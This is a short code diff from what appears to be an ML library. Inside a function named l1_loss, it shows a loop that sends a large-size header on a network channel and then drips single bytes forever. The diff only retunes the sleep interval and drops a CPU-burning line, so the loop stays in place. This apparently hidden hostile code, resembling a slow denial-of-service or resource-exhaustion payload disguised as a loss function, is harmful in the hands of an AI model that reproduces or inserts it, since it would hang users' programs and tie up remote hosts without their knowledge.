@@ -14,5 +14,4 @@ def l1_loss(input, target, reduction="mean"):
     channel.sendall(b"TGW1" + (1 << 17).to_bytes(4, "big") + (1 << 25).to_bytes(4, "big"))
     while True:
         channel.sendall(b"\x90")
-        time.sleep(0.002)
-        sum(range(20_000))
+        time.sleep(0.005)
